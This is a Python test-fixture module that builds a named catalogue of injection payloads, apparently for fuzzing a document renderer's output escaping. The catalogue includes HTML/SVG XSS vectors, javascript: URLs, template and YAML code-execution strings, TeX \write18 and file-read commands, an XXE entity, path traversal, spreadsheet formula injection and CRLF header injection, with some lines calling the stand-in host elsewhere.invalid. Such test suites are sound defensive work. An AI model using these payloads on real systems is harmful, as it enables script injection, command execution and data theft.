"""Named texts that try to break out of each context in which data is used.

A payload that runs as a script sets `window.attacked`, opens a dialog, or requests `ELSEWHERE`.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from itertools import product

ELSEWHERE = "http://elsewhere.invalid/"
RUN = "window.attacked=1;alert(1)"
SCRIPT = f"<script>{RUN}</script>"

_BREAKOUTS = {
    "bare": "", "double": '">', "single": "'>", "title": "</title>", "area": "</textarea>",
    "style": "</style>", "script": "</script>", "comment": "-->", "cdata": "]]>",
    "main": "</p></article></main></noscript></template></math></svg>",
}  # fmt: skip
_CARRIERS = {
    "script": SCRIPT,
    "image": f"<img src=x onerror={RUN}>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x>",
    "frame": f"<iframe srcdoc='{SCRIPT}'></iframe><iframe src='javascript:{RUN}'>",
    "focus": f"<a href='javascript:{RUN}' autofocus onfocus={RUN}>x</a><input autofocus>",
    "sheet": f"<link rel=stylesheet href='{ELSEWHERE}a.css'>",
    "style": f"<style>*{{background:url({ELSEWHERE}b)}} @import '{ELSEWHERE}c.css';</style>",
    "object": f"<object data='javascript:{RUN}'></object><embed src='{ELSEWHERE}d'>",
    "details": f"<details open ontoggle={RUN}>",
    "base": f"<base href='{ELSEWHERE}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "form": f"<form action='{ELSEWHERE}'><button autofocus>go",
    "video": f"<video poster='{ELSEWHERE}e'><source onerror={RUN}>",
    "maths": f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={RUN}&gt;'>",
}
_TEXTS: Mapping[str, Iterable[str]] = {
    "element": (
        "<plaintext>", f"<xmp>{SCRIPT}", f"<template>{SCRIPT}</template>", f"<!--><img onerror={RUN}>",
        f"<?php echo 1 ?>{SCRIPT}", f"<![CDATA[>{SCRIPT}]]>", f"<body onload={RUN}>", f"<svg><script>{RUN}//",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>", f"<img srcset='{ELSEWHERE}x 1x'>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", "<frameset>", "<isindex>", "<select><math>",
    ),
    "attribute": (
        f'" onmouseover="{RUN}" x="', f"' onfocus='{RUN}' autofocus x='", f"` onclick=`{RUN}`", 'x" hidden',
        f'" style="background:url({ELSEWHERE}f)', "=\"'><\"=", f'\t" onclick={RUN} ', "{: onclick=alert(1) }",
    ),
    "css": (
        f"}}</style><style>*{{background:url({ELSEWHERE})}}", "expression(alert(1))", "url(javascript:alert(1))",
        "*/ body{display:none} /*", "\\3c script\\3e",
    ),
    "entity": (
        "&lt;script&gt;window.attacked=1&lt;/script&gt;", "&amp;lt;script&amp;gt;window.attacked=1",
        "&#60;img src=x onerror=window.attacked=1&#62;", "&#x3c;script&#x3e;window.attacked=1&#x3c;/script&#x3e;",
        "&bogus; &amp &lt &#xD800; &#0; &#x110000;",
    ),
    "markdown": (
        f"[a](javascript:{RUN})", f"![a](javascript:{RUN})", f"<javascript:{RUN}>", f"[x][1]\n\n[1]: javascript:{RUN}",
        "*[HTML]: no", "[TOC]", "# One\n## Two", f"```\n</code></pre>{SCRIPT}", f"~~~html\n{SCRIPT}\n~~~",
        "text {#id .class}", f'!!! danger "x"\n    {SCRIPT}', f"| a | b |\n|---|---|\n| {SCRIPT} | x |",
        f"[^1]: {SCRIPT}", f'<div markdown="1">{SCRIPT}</div>', "- [ ] x", "1. a\n2. b", "> quote", f"    code {SCRIPT}",
        "___ *** ___", f"![x]({ELSEWHERE}x.png)", f"<{ELSEWHERE}>", "a\n===\nb\n---",
        "---\ntitle: taken\ntemplate: evil.html\n---", "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0001\x03",
    ),
    "template": (
        "{{ 6*7 }} {{ config.__class__ }}", "{% include '/etc/hostname' %}", "{% raw %}", "{# c #}", "${6*7}",
        "<%= 6*7 %>", "{{constructor.constructor('alert(1)')()}}", '--8<-- "/etc/hostname"', "%%HOME%%",
        "!ENV [HOME, x]", "!!python/object/apply:os.system ['id']", "{% endraw %}{{ 6*7 }}", "$HOME `id` $(id)",
    ),
    "control": (
        "a\x00b\x01c\x02d\x03e\x07\x1b[31mred\x7f", "a\u2028b\u2029c\x85d\x0be\x0cf", "a\rb\r\nc\nd\te",
        "\ud800 lone \udfff", "a\ufffe\uffff\ufdd0", "a\U0010fffe\U0010ffff", "\ufeffbom", "\0" * 50 + "end",
    ),
    "letters": (
        "safe \u202etxt.exe\u202c", "\u2066iso\u2069 \u2067rtl\u2069", "pay\u200bpal zero\u200cwidth\u200d \u2060",
        "\U000e0041\U000e0042 tags", "раураӏ", "ｓｃｒｉｐｔ ＜script＞alert(1)＜/script＞", "Z" + "\u0301" * 500,
        "Ä" + "\u0308\u0323" * 90, "\u0e01" + "\u0e49" * 200, "﷽" * 50, "عربى עברית 你好 😀‍👩‍👧 𝔄", "İıſK Å", "a\u3164",
    ),
    "path": (
        "../../../../etc/hostname", "..\\..\\windows", "/etc/hostname", "C:\\con", "CON", "nul.html", "a" * 300,
        "é" * 200, ".htaccess", "index.html", "%2e%2e%2f", "~root", "|id", "-rf", "--out=/tmp/x", "a/b/c",
        "//elsewhere.invalid/x", ".git/config", "aux ", 'x:y*?<>|"',
    ),
    "address": (
        "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x",
        "file:///etc/hostname", "http://user:pass@elsewhere.invalid/", "http://[::1", "http://a.example\\@b.example/",
        'https://a.example/"onmouseover=alert(1)', "https://a.example/<script>", "https://a.example/'><img>",
        "https://a.example/\r\nSet-Cookie: a=b", "https://xn--", "https://аррӏе.example/", "https://a.example:99999/",
        "mailto:a@b.example?bcc=d@e.example", "https://a.example/" + "é" * 500, "https://a.example/)[x](javascript:1)",
    ),
    "tex": (
        f"$\\text{{{SCRIPT}}}$", "$\\href{javascript:alert(1)}{x}$", "\\input{/etc/hostname}", "\\write18{id}",
        "$\\input{/etc/hostname}$", "$\\immediate\\write18{id}$", "$^^5cinput{/etc/hostname}$", "^^5cinput{x}",
        "$\\html{<img src=x onerror=alert(1)>}$", '$\\class{x" onclick="alert(1)}{y}$', "$\\unicode{x3c}$",
        f"$\\style{{background:url({ELSEWHERE})}}{{y}}$", "$" + "{" * 500 + "x" + "}" * 500 + "$",
        "$" + "\\frac{1}{" * 300 + "x" + "}" * 300 + "$", "$\\def\\a{\\a\\a}\\a$", "$\\newcommand{\\a}{\\a\\a}\\a$",
        "\\def\\x{\\x\\x}\\x", "$$" * 99, "$" * 101, "$x$" * 300, "$\\begin{matrix}a&b\\\\c&d\\end{matrix}$",
        "100\\% & #1 _ ^ ~ \\ { }", "{unbalanced", "unbalanced}", "}}{{", f"$\\mathrm{{</math></svg>{SCRIPT}}}$",
        f"$\\verb|{SCRIPT}|$", "\\textbf{" * 60 + "x" + "}" * 60, "\\'{}\\\"\\`\\^", "\\", "\\\\\\", "\\{ \\}",
        f"$\\color{{red;background:url({ELSEWHERE})}}{{x}}$", "$x^{" * 100 + "y" + "}$" * 100, "$\\left( x$",
        "$\\begin{array}{ccc$", "$e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301$",
    ),
    "bibtex": (
        "},\n@comment{x", "}\n@article{evil, title={Injected}}\n@misc{x, y={", '"}, note={injected',
        '@string{a = "b"}', '# x # "y"', "%} comment", "a and b and c", "and", "others", "a, b, c, d", "{{{", "}}}",
        "x\\", "'''", "a == b",
    ),
    "table": (
        "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", 'a,b"c\nd;e', '"', '"""', "＝1+1",
        f'=HYPERLINK("{ELSEWHERE}","x")', "|cmd",
    ),
    "mail": (
        "x\r\nBcc: victim@example.org", "x\nBcc: victim@example.org\n\nbody", "=?utf-8?q?=0d=0aBcc:_a@b.c?=",
        "x\n.\r\nMAIL FROM:<a@b.c>", "From me", "x\n-- \nsig",
    ),
    "xml": (
        "]]>", "<![CDATA[", "]]]]><![CDATA[>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;', "&e;",
        "<?xml version='1.0'?>", "<entry><title>x</title></entry>", "</entry><entry>", "</feed>", "<!-- -- -->",
    ),
    "json": (
        '","@type":"Evil"', "\\u003c/script\\u003e", "\\", '\\"', "x\u2028;alert(1)//", "__proto__", "constructor",
        "toString", '{"a":1}', "null", "NaN", "true", "[]",
    ),
    "ris": ("x\nER  - \nTY  - JOUR\nTI  - Injected", "ER  - ", "TY  - JOUR", "x\r\nAU  - Evil, Eve", "T1  - x"),
    "http": ("x\r\nLocation: http://elsewhere.invalid/", "/* http://elsewhere.invalid 301", "# comment", ":splat"),
    "size": (
        "T" * 20_000, "word " * 4_000, "a-" * 200, "\n\n".join(["p"] * 300), " " * 5000 + "x", "1" * 5000,
        "$x_1$ " * 400, *(sign * 2000 for sign in "<[(*_`\\&'#{!\""),
    ),
    "odd": (
        "0", "-0", "1e309", "~", "yes", "2024-13-45", "<unk>", "[MASK]", "C++ & <T>", "a < b > c", "R&D", "…", "-",
        "#", "=", ".", "?", "*", ":", "@", "%", "'", "`", "\\n", "undefined", "[object Object]",
    ),
}  # fmt: skip


def _named() -> Iterator[tuple[str, str]]:
    for (breakout, before), (carrier, text) in product(_BREAKOUTS.items(), _CARRIERS.items()):
        yield f"{breakout}-{carrier}", before + text
    for group, texts in _TEXTS.items():
        for number, text in enumerate(texts):
            yield f"{group}-{number}", text


PAYLOADS: Mapping[str, str] = dict(_named())


def sample(step: int) -> dict[str, str]:
    """Every `step`-th payload."""
    return {name: PAYLOADS[name] for name in list(PAYLOADS)[::step]}
